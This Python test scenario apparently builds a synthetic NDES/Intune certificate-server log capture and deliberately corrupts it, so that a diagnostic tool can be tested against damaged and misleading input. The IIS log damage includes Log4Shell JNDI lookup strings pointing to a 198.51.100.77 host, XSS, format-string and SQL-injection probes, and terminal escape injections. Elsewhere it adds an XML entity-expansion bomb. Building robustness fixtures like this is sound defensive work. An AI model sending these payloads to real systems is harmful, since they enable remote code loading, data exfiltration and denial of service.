"""A healthy server under a heap of damage and of things that mislead."""

import certs
import registry
import times
from registry import LOCAL
from scenario import Capture, legacy, periods, scenario
from times import at

LOGS = "inetpub/logs/LogFiles/W3SVC1/"
MODULE = "Intune/NDESPolicyModule/Logs/"

PROSE = """Notes on the ticket of last spring, NDES01

Symptom was, in NDESPlugin.log:

WINHTTP_CALLBACK_STATUS_FLAG_CERT_CN_INVALID
Failed to send http request /CertificateRegistrationSvc/Certificate/\
VerifyRequest. Error 12175

and in IIS, before that:

2025-05-06 09:12:44 10.20.4.31 POST /CertificateRegistrationSvc/Certificate/\
VerifyRequest - 443 - 10.20.4.31 NDES_Plugin - 403 16 2148204809 453

The CRP said: Signing certificate could not be retrieved. Then
"VerifyRequest Finished with status False". All mended since; kept because
somebody will ask again.
"""

FIREWALL_HEAD = """#Version: 1.5
#Software: Microsoft Windows Firewall
#Time Format: Local
#Fields: date time action protocol src-ip dst-ip src-port dst-port size \
tcpflags tcpsyn tcpack tcpwin icmptype icmpcode info path

"""

HTTPERR_HEAD = """#Software: Microsoft HTTP API 2.0
#Version: 1.0
#Date: 2026-04-14 04:00:11
#Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri \
streamid sc-status s-siteid s-reason s-queuename
"""


def lines_of(data):
    return data.split(b"\r\n")[:-1]


def put(lines, share, new):
    """NEW rows after SHARE per cent of LINES."""
    at_line = max(5, len(lines) * share // 100)
    lines[at_line:at_line] = new


def damage_iis(cap):
    rng = cap.rng
    name = LOGS + "u_ex260414.log"
    lines = lines_of(cap.files[name])
    row = (b"2026-04-14 %s 10.20.4.31 %s 443 - 203.0.113.66 %s - %s")
    put(lines, 12, [
        row % (b"02:10:01", b"GET /certsrv/mscep/mscep.dll "
               b"${jndi:ldap://198.51.100.77:1389/a}", b"curl/8.5.0",
               b"403 0 0 3"),
        row % (b"02:10:02", b"GET /certsrv/mscep/mscep.dll operation="
               b"${${lower:j}ndi:rmi://198.51.100.77/x}",
               b"${jndi:dns://198.51.100.77/${hostName}}", b"403 0 0 2"),
        row % (b"02:10:03", b"POST /CertificateRegistrationSvc/Certificate/"
               b"VerifyRequest -", b"python-requests/2.31.0",
               b"403 7 64 15"),
        row % (b"02:10:04", b"GET /\x1b[31m\x07\x08ALERT\x1b[0m \x01\x02",
               b"\xff\xfe\xc3\x28<script>alert(1)</script>", b"404 0 2 1"),
        row % (b"02:10:05", b"GET /%s%d%n%n%n -", b"'%22;drop+table--",
               b"404 0 2 1"),
    ])
    put(lines, 25, [b"\0" * 512 + lines[5]])
    put(lines, 30, [
        b"2026-04-14 04:31", b"",                     # cut rows
        b"2026-04-14 04:31:07 10.20.4.31 GET / - 80 - 203.0.113.9 - - 200",
        b"2026-04-14 04:31:09 10.20.4.31 GET / - 80 - 203.0.113.9 Mozilla"
        b" 5.0 with blanks - 200 0 0 11",
        b"9999-99-99 99:99:99 10.20.4.31 GET / - 80 - 203.0.113.9 - - "
        b"200 0 0 11",
        b"#Fields:", b"#Fields: date",
        b"2026-04-14", lines[2], lines[3],
    ])
    put(lines, 40, [row % (b"05:02:44", b"GET /index.php a="
                           + b"A" * 1060000, b"-", b"404 15 0 9")])
    # fewer fields for a while, as somebody tried in the console
    put(lines, 50, [
        b"#Software: Microsoft Internet Information Services 10.0",
        b"#Version: 1.0", b"#Date: 2026-04-14 06:00:00",
        b"#Fields: time cs-method cs-uri-stem sc-status",
        b"06:00:00 GET /iisstart.htm 200", b"06:05:00 GET /iisstart.htm 200",
        lines[0], lines[1], lines[2], lines[3]])
    put(lines, 70, [row.replace(b"2026-04-14", b"2999-12-31") % (
        b"23:59:59", b"GET /certsrv/mscep/mscep.dll operation=GetCACaps"
        b"&message=ca", b"Dalvik/2.1.0+(Linux;+U;+Android+14)",
        b"200 0 0 1")])
    cap.add(name, b"\n".join(
        line + (b"\r" if rng.chance(90) else b"") for line in lines)
        + b"\r\n2026-04-14 14:0")
    # the day before lost its head: a tail copied with a tool
    name = LOGS + "u_ex260413.log"
    cap.add(name, b"\r\n".join(lines_of(cap.files[name])[40:]) + b"\r\n")
    cap.add(LOGS + "u_ex260415.log", b"")
    cap.add(LOGS + "u_ex260416.log", rng.bytes(3000))


def damage_plugin(cap):
    data = cap.files[MODULE + "NDESPlugin.log"]
    records = data.split(b"\r\n<![LOG[")
    middle = len(records) // 2
    records[middle:middle] = [
        b"Sending request to certificate reg",          # never closed
        b"Impersonating \x1b]0;owned\x07 caller\0\0\0]LOG]!><time=\"25:61:"
        b"00.000-120\" date=\"13-45-2026\" component=\"NDESPlugin\" "
        b"context=\"\" type=\"1\" thread=\"x\" file=\"\">",
        b"]LOG]!><time=\"\" date=\"\" component=\"\" context=\"\" type=\"\" "
        b"thread=\"\" file=\"\">",
    ]
    data = b"\r\n<![LOG[".join(records)
    cap.add(MODULE + "NDESPlugin.log",
            data + b"<![LOG[Calling VerifyRe")
    old = cap.files[MODULE + "NDESPlugin.lo_"].decode("utf-8")
    cap.add(MODULE + "NDESPlugin.lo_", old.encode("utf-16-le"))  # no mark


def damage_svclog(cap):
    name = next(n for n in cap.files if "CertificateRegistration" in n)
    text = cap.files[name].decode("utf-8")
    parts = [p + "</E2ETraceEvent>"
             for p in text.split("</E2ETraceEvent>")[:-1]]
    third = len(parts) // 3
    sample = parts[third]
    body = sample[:sample.index("<ApplicationData>") + 17]
    close = "</ApplicationData></E2ETraceEvent>"
    parts[third:third] = [
        sample[:len(sample) // 2],                       # cut, goes on
        body + "Token \x01\x02\x0b\x1b[2J holds controls" + close,
        body + "An &undefined; entity &#0; &#xFFFFFFFF;" + close,
        body + "<unclosed><b attr=1>" + close,
        "<!DOCTYPE z [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
        "\"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
        body + "VerifyRequest Finished with status Fal",  # cut by a crash
    ]
    tail = parts.pop()
    cap.add(name, (sample[300:] + "".join(parts)
                   + tail[:len(tail) - 120]).encode("utf-8"))


def bad_roots(cap):
    rng = cap.rng
    base = LOCAL + "\\ROOT\\Certificates\\"
    good = certs.blob("litware-2010", rng)
    short = certs.blob("contoso-root", rng)[:-200]
    keys = [
        (LOCAL + "\\ROOT", []),
        (base + certs.thumbprint("contoso-root"),
         [("Blob", registry.binary(certs.blob("contoso-root", rng)))]),
        # the certificate is whole, its key bears another name
        (base + rng.hex(40).upper(), [("Blob", registry.binary(good))]),
        (base + rng.hex(40).upper(), [("Blob", registry.binary(short))]),
        (base + rng.hex(40).upper(), []),               # no Blob at all
        (base + rng.hex(40).upper(),
         [("Blob", registry.binary(b""))]),
        (base + rng.hex(40).upper(),
         [("Blob", registry.binary(b"\x20\0\0\0\1\0\0\0\xff\xff\xff\xff"
                                   + rng.bytes(64)))]),
        (base + rng.hex(40).upper(),
         [("Blob", registry.binary(b"\x20\0\0\0\1\0\0\0\x40\0\0\0\x30\x82"
                                   + rng.bytes(62)))]),
        (base + "not-a-thumbprint", [("Blob", registry.text("hello"))]),
    ]
    data = registry.export(keys, registry.UTF8)
    data += (b"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Broken\r\n\"a\"=hex:zz,0\r\n"
             b"\"b\"=dword:12\r\n=\r\n\"c\"=\"no end\r\n"
             b"[-HKEY_LOCAL_MACHINE\\SOFTWARE\\Gone]\r\n\"d\"=-\r\n"
             b"\"e\"=hex:01,02,\\\r\n")
    cap.add("registry/root-local.reg", data)
    # UTF-16 without its mark
    name = "registry/mscep.reg"
    cap.add(name, cap.files[name][2:])


def look_alikes(cap):
    rng = cap.rng
    rows = []
    for i in range(150):
        t = at("2026-04-14 02:00") + i * 118000
        rows.append("%s %s TCP 203.0.113.%d 10.20.4.31 %d 443 52 S %d 0 "
                    "64240 - - - RECEIVE" % (
                        times.when(t).strftime("%Y-%m-%d %H:%M:%S"),
                        rng.pick(["ALLOW", "DROP"]), rng.below(255),
                        rng.between(1024, 65000), rng.below(1 << 30)))
    cap.add("firewall/pfirewall.log",
            (FIREWALL_HEAD + "\n".join(rows) + "\n")
            .replace("\n", "\r\n").encode())
    cap.add("HTTPERR/httperr1.log", (HTTPERR_HEAD + "".join(
        "2026-04-14 04:%02d:11 203.0.113.%d 51%03d 10.20.4.31 443 HTTP/1.1 "
        "GET /certsrv/mscep/mscep.dll?operation=GetCACaps - 503 1 "
        "Disabled SCEP\n" % (i % 60, i, i) for i in range(60)))
        .replace("\n", "\r\n").encode())
    cap.add("notes/last-spring.txt", PROSE.encode())
    cap.add("ccm/ccmsetup.log", (
        '<![LOG[Failed to send http request /ccm_system/request. Error '
        '12175]LOG]!><time="09:10:29.068-120" date="04-14-2026" '
        'component="ccmsetup" context="" type="3" thread="3396" '
        'file="ccmsetup.cpp:9498">\r\n' * 40).encode())
    cap.add("svc/empty.svclog", b"")
    cap.add("loop", ".")
    cap.add("notes/current.log", "../gone/nowhere.log")


@scenario(
    "hostile",
    "Healthy underneath: damaged logs, scanners, look-alikes, the year 2999",
    "Sain sous les d\u00e9combres\u00a0: journaux ab\u00eem\u00e9s, "
    "scanners, sosies, l'an 2999",
    verdict="healthy",
    checks=legacy(root_store_clean="no-evidence"))
def hostile(ident):
    cap = Capture(ident)
    start, end = at("2026-04-13 04:00"), at("2026-04-14 14:02")
    periods(cap, start, end)
    turn = at("2026-04-13 21:00")
    cap.iis_logs(folder=LOGS)
    cap.plugin_log(until=turn, name="NDESPlugin.lo_", folder=MODULE)
    cap.plugin_log(since=turn, folder=MODULE)
    cap.crp_log(since=at("2026-04-14 07:00"), folder="svc/")
    cap.stores(policy=None)
    cap.legacy_settings()
    damage_iis(cap)
    damage_plugin(cap)
    damage_svclog(cap)
    bad_roots(cap)
    look_alikes(cap)
    return cap


